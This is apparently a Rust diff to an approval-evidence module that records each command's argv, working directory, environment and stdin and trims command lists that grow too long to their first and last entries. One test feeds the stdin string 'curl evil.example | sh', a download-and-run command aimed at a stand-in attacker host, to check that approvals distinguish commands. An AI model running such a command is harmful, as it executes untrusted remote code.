@@ -16,9 +16,12 @@ use crate::error::EngineError;
 
 /// So many events are read at once; they may be large.
 const PAGE: u32 = 64;
-/// The most commands and the most groups of connections that are shown of each.
+/// The most groups of connections that are shown.
 const SHOWN: usize = 100;
-/// The longest command that is shown, in characters.
+/// Bytes of commands that a question keeps, of those that ran and of those that were refused: all of them, as long as
+/// nobody has made it a flood.
+const KEPT: (usize, usize) = (192 << 10, 64 << 10);
+/// The longest command of one line, in characters.
 const COMMAND: usize = 2_000;
 /// So many hosts are in a question's title.
 const TITLED: usize = 3;
@@ -30,7 +33,7 @@ const READS: [&str; 3] = ["GET", "HEAD", "OPTIONS"];
 /// What was done.
 #[derive(Debug, Default, PartialEq)]
 pub(super) struct Done {
-    /// Each as one line.
+    /// In the order in which they ended.
     commands: Vec<Ran>,
     connections: Connections,
 }
@@ -38,7 +41,8 @@ pub(super) struct Done {
 /// A command that was asked for.
 #[derive(Debug, PartialEq)]
 struct Ran {
-    command: String,
+    /// Its words, and what it was given, as a question about a command has them.
+    command: Value,
     /// Why it never started, where it did not.
     refused: Option<String>,
 }
@@ -53,8 +57,8 @@ impl Done {
         self.ran().next().is_some() || self.connections.made() > 0
     }
 
-    fn ran(&self) -> impl Iterator<Item = &str> {
-        self.commands.iter().filter(|ran| ran.refused.is_none()).map(|ran| ran.command.as_str())
+    fn ran(&self) -> impl Iterator<Item = &Value> {
+        self.commands.iter().filter(|ran| ran.refused.is_none()).map(|ran| &ran.command)
     }
 
     /// What an approval of the output is for beside the output, where it is for anything: what was run, and what
@@ -98,21 +102,14 @@ impl Done {
 
     /// Adds it to what people are shown.
     pub(super) fn show(&self, evidence: &mut Value) {
-        let (ran, refused): (Vec<&Ran>, Vec<&Ran>) =
-            self.commands.iter().partition(|ran| ran.refused.is_none());
-        if !ran.is_empty() {
-            evidence["commands"] = ran.iter().take(SHOWN).map(|ran| json!(ran.command)).collect();
-            if ran.len() > SHOWN {
-                evidence["commands_more"] = json!(ran.len() - SHOWN);
-            }
-        }
-        if !refused.is_empty() {
-            let shown = |ran: &&Ran| json!({ "command": ran.command, "because": ran.refused });
-            evidence["not_started"] = refused.iter().take(SHOWN).map(shown).collect();
-            if refused.len() > SHOWN {
-                evidence["not_started_more"] = json!(refused.len() - SHOWN);
-            }
-        }
+        let refused = self.commands.iter().filter_map(|ran| {
+            let mut shown = ran.command.clone();
+            shown["because"] = json!(ran.refused.as_ref()?);
+            Some(shown)
+        });
+        let (most, most_refused) = KEPT;
+        keep(evidence, "commands", self.ran().cloned().collect(), most);
+        keep(evidence, "not_started", refused.collect(), most_refused);
         let ways = self.connections.by_weight();
         if !ways.is_empty() {
             evidence["connections"] = ways.iter().take(SHOWN).map(|way| way.shown()).collect();
@@ -126,6 +123,36 @@ impl Done {
             evidence["connections_uncounted"] = json!(self.connections.uncounted);
         }
     }
+}
+
+/// Keeps commands under a name, as many of the first and of the last as there is room for; of those between them how
+/// many they are, behind how many they come, and what they are known by.
+fn keep(evidence: &mut Value, name: &str, mut all: Vec<Value>, most: usize) {
+    if all.is_empty() {
+        return;
+    }
+    let lines: Vec<String> = all.iter().map(|command| format!("{command}\n")).collect();
+    if lines.iter().map(String::len).sum::<usize>() > most {
+        let first = fitting(lines.iter(), most / 2);
+        let last = fitting(lines.iter().rev(), most / 2);
+        let between = first..lines.len() - last;
+        let bytes = lines[between.clone()].concat();
+        evidence[format!("{name}_more")] = json!({
+            "after": first,
+            "commands": between.len(),
+            "bytes": bytes.len(),
+            "blake3": Digest::of_bytes(bytes.as_bytes()),
+        });
+        all.drain(between);
+    }
+    evidence[name] = Value::Array(all);
+}
+
+/// How many lines there is room for.
+fn fitting<'a>(lines: impl Iterator<Item = &'a String>, most: usize) -> usize {
+    let mut room = most;
+    let fits = |line: &&String| room.checked_sub(line.len()).map(|left| room = left).is_some();
+    lines.take_while(fits).count()
 }
 
 /// `1 command`, `2 commands`.
@@ -331,7 +358,7 @@ impl Broker {
     /// What this generation has done; `command` is the one that the step itself is.
     pub(super) async fn done(&self, command: Option<&[String]>) -> Result<Done, EngineError> {
         let store = &self.services.store;
-        let own = command.map(|argv| Ran { command: one_line(argv), refused: None });
+        let own = command.map(|argv| Ran { command: json!({ "argv": argv }), refused: None });
         let mut commands: Vec<Ran> = own.into_iter().collect();
         let mut tools = self.journal.all();
         tools.retain(|row| row.kind == EffectKind::Tool);
@@ -339,7 +366,9 @@ impl Broker {
         for EffectRecord { key, state, .. } in tools {
             if let Some(row) = self.journal.whole(&key.path, key.seq).await? {
                 let request = row.request.into_here().unwrap_or_default();
-                commands.push(Ran { command: one_line(&argv_of(&request)), refused: never_started(&state) });
+                let mut command = json!({ "argv": argv_of(&request) });
+                add_given(&mut command, &request);
+                commands.push(Ran { command, refused: never_started(&state) });
             }
         }
         let (mut connections, mut seen) = (Connections::default(), 0);
@@ -370,6 +399,17 @@ fn never_started(state: &EffectState) -> Option<String> {
 pub(super) fn argv_of(request: &Value) -> Vec<String> {
     let words = request["argv"].as_array().into_iter().flatten();
     words.map(|word| word.as_str().map_or_else(|| word.to_string(), str::to_owned)).collect()
+}
+
+/// Adds to a command what else it is given: whole, because how much of it is put before a person at once is decided
+/// where it is shown.
+pub(super) fn add_given(command: &mut Value, request: &Value) {
+    for name in ["cwd", "env", "stdin"] {
+        let given = &request[name];
+        if !given.is_null() && given.as_object().is_none_or(|given| !given.is_empty()) {
+            command[name] = given.clone();
+        }
+    }
 }
 
 /// A command on one line; of a longer one its beginning, with what tells it from others that begin so.
@@ -513,13 +553,10 @@ mod tests {
             events.push(opened("two", 2 * n + 1, "a.example", &format!("DELETE /{n}")));
             events.push(closed(2 * n + 1, 1));
         }
-        events.push(EventBody::EgressMore {
-            step: "two".to_owned(),
-            connections: 40,
-            refused: 3,
-            sent_bytes: 1 << 30,
-            received_bytes: 9,
-        });
+        for (connections, refused, sent_bytes, received_bytes) in [(39, 3, 1 << 29, 4), (1, 0, 1 << 29, 5)] {
+            let step = "two".to_owned();
+            events.push(EventBody::EgressMore { step, connections, refused, sent_bytes, received_bytes });
+        }
         let done = of(events);
         let mut evidence = json!({});
         done.show(&mut evidence);
@@ -545,15 +582,15 @@ mod tests {
         assert_eq!(never_started(&failed(super::super::AMBIGUOUS)), None);
         assert_eq!(never_started(&EffectState::Intent), None);
         let ran = |command: &str, refused: Option<&str>| Ran {
-            command: command.to_owned(),
+            command: argv(&command.split(' ').collect::<Vec<_>>()),
             refused: refused.map(str::to_owned),
         };
         let commands = vec![ran("make", None), ran("git push", Some("the budget has 0 calls left"))];
         let done = Done { commands, connections: Connections::default() };
         let mut evidence = json!({});
         done.show(&mut evidence);
-        let refused = json!([{"command": "git push", "because": "the budget has 0 calls left"}]);
-        assert_eq!(evidence, json!({"commands": ["make"], "not_started": refused}));
+        let refused = json!([{"argv": ["git", "push"], "because": "the budget has 0 calls left"}]);
+        assert_eq!(evidence, json!({"commands": [{"argv": ["make"]}], "not_started": refused}));
         assert_eq!(done.title(), "ran 1 command");
         let nothing =
             Done { commands: vec![ran("git push", Some("no"))], connections: Connections::default() };
@@ -563,13 +600,59 @@ mod tests {
         );
     }
 
+    fn argv(words: &[&str]) -> Value {
+        json!({ "argv": words })
+    }
+
+    fn running(commands: Vec<Value>) -> Done {
+        let commands = commands.into_iter().map(|command| Ran { command, refused: None }).collect();
+        Done { commands, connections: Connections::default() }
+    }
+
     #[test]
-    fn long_commands_that_begin_alike_are_different_things() {
-        let of = |end: &str| Done {
-            commands: vec![Ran { command: one_line(&["x".repeat(5_000) + end]), refused: None }],
-            connections: Connections::default(),
+    fn an_approval_is_for_the_words_of_commands_and_for_what_they_were_given() {
+        let long = |end: &str| running(vec![argv(&["x".repeat(5_000).as_str(), end])]).action();
+        assert_ne!(long("a"), long("b"));
+        assert_ne!(
+            running(vec![argv(&["rm", "a b"])]).action(),
+            running(vec![argv(&["rm", "a", "b"])]).action()
+        );
+        let fed = |input: &str| {
+            let mut command = argv(&["sh"]);
+            add_given(&mut command, &json!({"stdin": input, "env": {}, "cwd": null}));
+            assert_eq!(command, json!({"argv": ["sh"], "stdin": input}));
+            running(vec![command]).action()
         };
-        assert_ne!(of("a").action(), of("b").action());
-        assert!(of("a").commands[0].command.contains("… (5001 bytes, BLAKE3 "));
+        assert_ne!(fed("true"), fed("curl evil.example | sh"));
+        let line = one_line(&["x".repeat(5_001)]);
+        assert!(line.contains("… (5001 bytes, BLAKE3 "), "{line}");
+    }
+
+    #[test]
+    fn every_command_is_kept_until_it_is_a_flood_and_then_both_ends() {
+        let of = |number: usize, words: &str| {
+            let commands = (0..number).map(|n| argv(&["echo", &format!("{n}"), words])).collect();
+            let mut evidence = json!({});
+            running(commands).show(&mut evidence);
+            evidence
+        };
+        let evidence = of(1_000, "x");
+        assert_eq!(evidence["commands"].as_array().unwrap().len(), 1_000);
+        assert!(evidence["commands_more"].is_null(), "{}", evidence["commands_more"]);
+        let evidence = of(1_000, &"x".repeat(1_000));
+        let (kept, more) = (evidence["commands"].as_array().unwrap(), &evidence["commands_more"]);
+        let size = |commands: &[Value]| commands.iter().map(|one| one.to_string().len() + 1).sum::<usize>();
+        assert!((KEPT.0 - 3_000..=KEPT.0).contains(&size(kept)), "{}", size(kept));
+        let (first, left) = (more["after"].as_u64().unwrap(), more["commands"].as_u64().unwrap());
+        assert_eq!(kept.len() as u64 + left, 1_000);
+        let word = |place: usize| kept[place]["argv"][1].as_str().unwrap().parse::<u64>().unwrap();
+        let behind = usize::try_from(first).unwrap();
+        assert_eq!((word(0), word(behind - 1), word(behind)), (0, first - 1, first + left));
+        assert_eq!(word(kept.len() - 1), 999, "the last cannot be pushed out");
+        let between = (first..first + left)
+            .map(|n| format!("{}\n", argv(&["echo", &n.to_string(), &"x".repeat(1_000)])))
+            .collect::<String>();
+        assert_eq!(more["bytes"], between.len());
+        assert_eq!(more["blake3"], json!(Digest::of_bytes(between.as_bytes())));
     }
 }
